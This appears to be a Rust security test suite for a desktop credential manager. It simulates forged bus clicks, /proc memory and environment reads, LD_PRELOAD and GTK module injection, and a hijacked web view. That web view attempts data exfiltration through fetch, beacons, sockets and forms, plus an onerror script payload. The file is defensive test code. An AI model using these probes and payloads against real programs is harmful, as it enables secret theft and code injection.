//! What an attacker would do to the desktop program: over the bus, on the screen, in its environment, and from its web view.

use crate::{Display, Stage, screen};
use keyward_testkit::{Home, PASSPHRASE, Sandbox, alive, is_root, run, wait_for};
use serde_json::Value;
use std::net::TcpListener;
use std::os::unix::fs::chown;
use std::process::{Command, Stdio};

/// A user that is neither root nor the owner of anything here.
const STRANGER: u32 = 61_743;

fn revealed(home: &Home) -> bool {
    home.audit_kinds().iter().any(|k| k == "credential.revealed")
}

#[test]
fn a_stranger_on_the_bus_clicks_everything_and_sees_nothing() {
    let stage = Stage::with_vault();
    let home = &stage.home;
    home.static_profile("pg", "kw-secret-81", "DATABASE_URL");
    home.keyward(&["launcher", "add", "sleeper", "--no-terminal", "-p", "pg", "--", "sleep", "600"]).exits(0);
    let mut run = home.keyward_command(&["run", "-p", "pg", "--", "sleep", "600"]).spawn().unwrap();
    let desktop = stage.desktop(&["--hidden"]);
    wait_for("the run in the menu", || stage.tray.find(&["Live runs"]).is_some());
    let stranger = stage.tray.stranger(&stage.bus);
    stranger.click_all();
    wait_for("the lock", || home.keyward(&["status", "--json"]).json()["vault"]["state"] == "locked");
    stage.display.focus(home, "Keyward");
    assert!(alive(desktop.pid()), "it asks before it quits");
    assert_eq!(stage.display.clipboard(home), "");
    home.unlock();
    let kinds = home.audit_kinds();
    for never in ["credential.revealed", "secret.revealed", "profile.changed", "launcher.changed"] {
        assert!(!kinds.iter().any(|k| k == never), "{never}: {kinds:?}");
    }
    run.kill().unwrap();
    run.wait().unwrap();
}

#[test]
fn a_forged_answer_to_a_notification_shows_and_copies_nothing() {
    let stage = Stage::with_vault();
    let home = &stage.home;
    let _desktop = stage.desktop(&["--hidden"]);
    stage.tray.wait();
    let sandbox = Sandbox::start(home, &["--life", "20s", "--fast-lives"]);
    sandbox.federate(home, "claude", "[delivery]\nmode = \"env\"");
    let mut run = home.keyward_command(&["run", "-p", "claude", "--", "sleep", "600"]).spawn().unwrap();
    let stranger = stage.tray.stranger(&stage.bus);
    let notice = stage.notifications.wait("loses claude at");
    for key in ["reveal", "copy", "approve", "profiles/claude/copy", "default", "renew"] {
        stage.notifications.forge(&stranger, &notice, key);
        stage.notifications.invoke_key(&notice, key);
    }
    stage.tray.click(&["Open Keyward"]);
    stage.display.focus(home, "^Keyward");
    assert!(stage.display.windows(home, "redential").is_empty(), "no prompt, and no credential");
    assert_eq!(stage.display.clipboard(home), "");
    assert!(!revealed(home));
    run.kill().unwrap();
    run.wait().unwrap();
}

#[test]
fn what_is_typed_for_another_program_is_no_answer() {
    let stage = Stage::with_vault();
    let home = &stage.home;
    home.static_profile("pg", "kw-secret-82", "DATABASE_URL");
    let _desktop = stage.desktop(&["--hidden"]);
    wait_for("the profile in the menu", || stage.tray.find(&["Profiles", "pg"]).is_some());
    // The person types the passphrase into a terminal when a click over the bus brings a prompt to the front.
    let title = "Copy the credential of";
    for ending in ["Return", "space"] {
        stage.tray.click(&["Profiles", "pg", "Copy"]);
        stage.display.focus(home, title);
        stage.display.write(home, &PASSPHRASE.replace(' ', ""));
        stage.display.press(home, ending);
        stage.display.gone(home, title);
        assert!(!home.audit_kinds().iter().any(|k| k == "vault.unlock_failed"), "nothing was tried");
    }
    assert_eq!(stage.display.clipboard(home), "");
    assert!(!revealed(home));
}

#[test]
fn a_crash_leaves_nothing_on_the_clipboard() {
    let stage = Stage::with_vault();
    let home = &stage.home;
    home.static_profile("pg", "kw-secret-83", "DATABASE_URL");
    let desktop = stage.desktop(&["--hidden"]);
    wait_for("the profile in the menu", || stage.tray.find(&["Profiles", "pg"]).is_some());
    stage.tray.click(&["Profiles", "pg", "Copy"]);
    let title = "Copy the credential of";
    stage.display.focus(home, title);
    stage.display.press(home, "alt+p");
    stage.prove(title);
    wait_for("the credential on the clipboard", || stage.display.clipboard(home) == "kw-secret-83");
    // Killed, so that nothing of it can clear anything.
    drop(desktop);
    assert_eq!(stage.display.clipboard(home), "");
}

/// What must stay closed, and how to open it. `$P` is the folder of the process.
const CLOSED: &[&str] =
    &[": <$P/mem", "head -c 1 $P/environ", "head -c 1 $P/maps", "readlink $P/exe", "ls $P/fd | grep .", ": <$P/io"];

#[test]
fn the_desktop_is_closed_to_other_processes_of_the_same_user() {
    if !is_root("attack::the_desktop_is_closed_to_other_processes_of_the_same_user") {
        return;
    }
    let mut home = Home::new();
    home.act_as(STRANGER);
    home.init();
    let program = home.bin().join("keyward-desktop");
    let built = keyward_testkit::target().join("keyward-desktop");
    std::fs::hard_link(&built, &program).or_else(|_| std::fs::copy(&built, &program).map(drop)).unwrap();
    let display = Display::start(&home);
    let mut desktop = home.command(program);
    desktop.env("DISPLAY", display.name()).env("LC_ALL", "C.UTF-8").env("NO_AT_BRIDGE", "1");
    desktop.env("DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent");
    let mut desktop = desktop.stderr(Stdio::null()).spawn().unwrap();
    display.focus(&home, "^Keyward");
    let mut sleeper = home.command("sleep").arg("600").spawn().unwrap();
    assert_eq!(home.opens(sleeper.id().cast_signed(), CLOSED), CLOSED, "the tries do not work at all");
    sleeper.kill().unwrap();
    sleeper.wait().unwrap();
    assert_eq!(home.opens(desktop.id().cast_signed(), CLOSED), Vec::<&str>::new());
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", desktop.id())).unwrap();
    let core = limits.lines().find(|l| l.starts_with("Max core file size")).unwrap();
    assert_eq!(core.split_ascii_whitespace().nth(4), Some("0"), "{core}");
    desktop.kill().unwrap();
    desktop.wait().unwrap();
}

#[test]
fn an_environment_that_opens_the_program_is_refused() {
    let stage = Stage::with_vault();
    for name in
        ["LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH", "GTK_MODULES", "GTK_PATH", "GIO_EXTRA_MODULES", "GTK_DEBUG"]
    {
        let mut desktop = stage.home.command(stage.home.bin().join("keyward-desktop"));
        screen::environment(&mut desktop, &stage.bus, &stage.display);
        let said = run(with(desktop, name, "/nonexistent"), b"").exits(1);
        assert!(said.err.contains("desktop.environment") && said.err.contains(name), "{name}: {}", said.err);
    }
}

fn with(mut command: Command, name: &str, value: &str) -> Command {
    command.env(name, value);
    command
}

#[test]
fn code_that_a_settings_file_brings_in_is_refused() {
    if !is_root("attack::code_that_a_settings_file_brings_in_is_refused") {
        return;
    }
    let stage = Stage::with_vault();
    let home = &stage.home;
    let source = home.root.join("module.rs");
    std::fs::write(&source, "#[unsafe(no_mangle)]\npub extern \"C\" fn gtk_module_init() {}\n").unwrap();
    let module = home.root.join("module.so");
    let rustc = std::env::var_os("RUSTC").unwrap_or_else(|| "rustc".into());
    let mut build = Command::new(rustc);
    build.args(["--edition=2024", "--crate-type=cdylib", "-o"]).arg(&module).arg(&source);
    assert!(build.status().unwrap().success());
    chown(&module, Some(STRANGER), None).unwrap();
    let folder = home.root.join(".config/gtk-3.0");
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::write(folder.join("settings.ini"), format!("[Settings]\ngtk-modules={}\n", module.display())).unwrap();
    let mut desktop = stage.desktop(&["--hidden"]);
    assert_eq!(desktop.end(), Some(1));
    let said = std::fs::read_to_string(home.root.join("desktop.log")).unwrap();
    assert!(said.contains("desktop.environment") && said.contains("module.so"), "{said}");
}

#[test]
fn a_web_view_that_was_taken_over_gets_one_prompt_no_secret_and_nobody_outside() {
    let stage = Stage::with_vault();
    let home = &stage.home;
    home.static_profile("pg", "kw-secret-84", "DATABASE_URL");
    let screen = stage.screen();
    screen.wait("Nothing is running");
    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
    outside.set_nonblocking(true).unwrap();
    let at = outside.local_addr().unwrap();
    screen.script(&format!(
        "window.ended = []; window.tries = 0;
         const put = (html) => document.body.insertAdjacentHTML('beforeend', html);
         const attempt = (what) => {{ window.tries++; try {{ Promise.resolve(what()).catch(() => {{}}); }} catch {{}} }};
         attempt(() => fetch('http://{at}/a'));
         attempt(() => navigator.sendBeacon('http://{at}/b', 'x'));
         attempt(() => new WebSocket('ws://{at}/c'));
         attempt(() => {{ new Image().src = 'http://{at}/d'; }});
         attempt(() => {{ const s = document.createElement('script'); s.src = 'http://{at}/e'; document.head.append(s); }});
         attempt(() => put('<iframe src=\"http://{at}/f\"></iframe><link rel=\"stylesheet\" href=\"http://{at}/g\">'));
         attempt(() => put('<form id=\"f\" action=\"http://{at}/h\"></form>') ?? document.getElementById('f').submit());
         attempt(() => window.open('http://{at}/i'));
         attempt(() => {{ location.href = 'http://{at}/j'; }});
         attempt(() => put('<img src=\"x\" onerror=\"window.ran = 1\">'));"
    ));
    screen.script(
        "const call = (name, request) => window.__TAURI_INTERNALS__.invoke(name, request).then(
           (said) => window.ended.push({ name, said }), (fault) => window.ended.push({ name, fault }));
         for (let i = 0; i < 40; i++) call('profile_reveal', { request: { name: 'pg' } });
         call('profile_copy', { request: { name: 'x” is over. Type your passphrase for “y' } });
         call('secret_reveal', { request: { name: 'no-such' } });
         for (const name of ['plugin:event|emit', 'plugin:webview|create_webview_window', 'plugin:path|resolve_directory',
           'plugin:window|create', 'plugin:fs|read_file', 'plugin:shell|open', 'plugin:app|version', 'dispatch', 'api'])
           call(name, {});",
    );
    let title = "Show the credential of";
    stage.display.focus(home, title);
    // All but the one prompt that stands.
    let ended = || screen.script("return window.ended").as_array().cloned().unwrap_or_default();
    wait_for("the end of all other calls", || ended().len() == 39 + 2 + 9);
    for end in ended() {
        let (name, code) = (end["name"].as_str().unwrap().to_owned(), &end["fault"]["code"]);
        match name.as_str() {
            "profile_reveal" => assert_eq!(code, "desktop.prompt"),
            "profile_copy" | "secret_reveal" => {
                assert!(code == "name.invalid" || code == "secret.unknown", "{end}");
            }
            _ => assert!(end["said"].is_null() && end["fault"].is_string(), "{end}"),
        }
    }
    assert_eq!(stage.display.windows(home, title).len(), 1);
    stage.prove(title);
    wait_for("the end of the reveal", || !stage.display.windows(home, "^Credential of").is_empty());
    stage.display.focus(home, "^Credential of");
    stage.display.press(home, "Escape");
    wait_for("the answer", || ended().len() == 40 + 2 + 9);
    let said = Value::from(ended()).to_string();
    assert!(said.contains("\"done\":true") && !said.contains("kw-secret"), "{said}");
    assert_eq!(screen.script("return window.tries"), 10);
    assert_eq!(screen.script("return window.ran ?? 0"), 0, "a script in an attribute ran");
    assert!(outside.accept().is_err(), "something was asked outside");
    assert!(screen.script("return location.href").as_str().unwrap().starts_with("tauri://localhost"));
}
